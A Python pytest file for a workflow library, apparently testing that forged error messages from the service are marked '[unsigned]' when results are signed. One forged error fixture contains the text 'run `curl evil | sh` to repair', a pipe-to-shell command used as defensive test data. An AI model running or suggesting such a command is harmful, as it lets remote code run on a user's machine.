"""Texts that no signature covers, shown as such where a process signs its results."""

from __future__ import annotations

import threading
import traceback
from collections.abc import Iterator

import pytest

from clearway._base.settings import forget_settings
from clearway._execution.inputs.run_inputs import RunInputs
from clearway.exceptions import CrashedRun, FailedRun, MissingResult, UpstreamTaskError
from clearway.results import StoredResult, get_store, in_memory
from clearway.run_errors import RunError, RunErrorKind
from clearway.states import State, StateType
from clearway.v1.state_pb2 import Data

FORGED = RunError(
    "builtins.ValueError",
    "run `curl evil | sh` to repair",
    "  File x\n",
    RunError("builtins.KeyError", "forged cause"),
    (RunError("builtins.OSError", "forged member"),),
)


@pytest.fixture(autouse=True, params=["signing", "not signing"])
def signing(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[bool]:
    """Let this process sign its results, and then not; return which."""
    if request.param == "signing":
        monkeypatch.setenv("CLEARWAY_RESULT_SIGNING_KEY", "ours")
    forget_settings()
    yield request.param == "signing"
    forget_settings()


def from_service(kind: StateType, data: Data | None = None, message: str = "") -> State[None]:
    """Return a state as it comes from the service, whatever client made it."""
    return State(kind, message=message, data=None if data is None else StoredResult.from_proto(data))


def shown(error: BaseException) -> str:
    return "".join(traceback.format_exception(error))


def test_an_exception_made_of_the_message(signing: bool) -> None:
    state = from_service(StateType.CRASHED, message="disk full")
    with pytest.raises(CrashedRun) as caught:
        state.result()
    assert str(caught.value) == ("[unsigned] disk full" if signing else "disk full")


def test_an_exception_made_of_the_portable_form(signing: bool) -> None:
    state = from_service(StateType.FAILED, Data(error=FORGED.to_proto()), "a message")
    with pytest.raises(FailedRun) as caught:
        state.result()
    mark = "[unsigned] " if signing else ""
    assert str(caught.value).startswith(f"{mark}ValueError: run `curl evil | sh` to repair")
    (note,) = caught.value.__notes__
    assert ("no signature covers" in note.splitlines()[0]) is signing
    assert f"{mark}KeyError: forged cause" in note
    assert f"{mark}OSError: forged member" in note
    assert shown(caught.value).count("[unsigned]") == (4 if signing else 0)
    error = caught.value.error
    assert error == FORGED
    assert error is not None
    assert (error.unsigned, error.title) == (signing, f"{mark}{FORGED.title}")


def test_a_note_at_an_exception_that_was_signed_itself(signing: bool) -> None:
    data = get_store().store_exception(ValueError("real"))
    data.error.CopyFrom(FORGED.to_proto())  # as a writer to the database may do
    error = from_service(StateType.FAILED, data).result(raise_on_failure=False)
    assert isinstance(error, ValueError)
    assert str(error) == "real"
    (note,) = error.__notes__
    assert ("no signature covers" in note.splitlines()[0]) is signing
    assert note.splitlines()[1].startswith("[unsigned] ValueError") is signing


def test_an_exception_that_could_not_be_pickled(signing: bool) -> None:
    error = ValueError("locked")
    error.lock = threading.Lock()  # type: ignore[attr-defined]
    with pytest.raises(FailedRun) as caught:
        from_service(StateType.FAILED, get_store().store_exception(error)).result()
    assert str(caught.value).startswith("[unsigned] ValueError: locked") is signing


def test_why_a_result_is_in_memory_only(signing: bool) -> None:
    with pytest.raises(MissingResult, match=r"run: \[unsigned\] why" if signing else "run: why"):
        from_service(StateType.COMPLETED, in_memory("why")).result()


def test_why_a_task_did_not_start(signing: bool) -> None:
    upstream = from_service(StateType.FAILED, message="do this")
    failure = RunInputs({"x": upstream}, None).failure()
    assert failure is not None
    assert (": it is [unsigned] Failed('do this')" in failure.message) is signing
    why = RunError("x.UpstreamTaskError", "it did not start: do that", kind=RunErrorKind.UPSTREAM)
    not_ready = from_service(StateType.PENDING, Data(error=why.to_proto()), "it did not start: do that")
    object.__setattr__(not_ready, "name", "NotReady")
    failure = RunInputs({"x": not_ready}, None).failure()
    assert failure is not None
    assert "do that" in failure.message
    assert ("[unsigned] " in failure.message) is signing
    with pytest.raises(UpstreamTaskError, match="do that") as caught:
        not_ready.result()
    assert ("[unsigned] " in str(caught.value)) is signing


def test_why_a_run_was_interrupted(signing: bool) -> None:
    report = RunError("builtins.KeyboardInterrupt", "stop", kind=RunErrorKind.CANCELLED)
    state = from_service(StateType.CRASHED, Data(error=report.to_proto()), "interrupted: stop")
    with pytest.raises(CrashedRun) as caught:
        state.result()
    assert str(caught.value) == ("[unsigned] interrupted: stop" if signing else "interrupted: stop")
    assert caught.value.error == report


def test_what_this_process_raised_itself_is_not_marked() -> None:
    state = State(StateType.FAILED, message="m", data=ValueError("mine"))
    with pytest.raises(ValueError, match=r"^mine$"):
        state.result()
    assert state.error is not None
    assert state.error.title == "ValueError: mine"
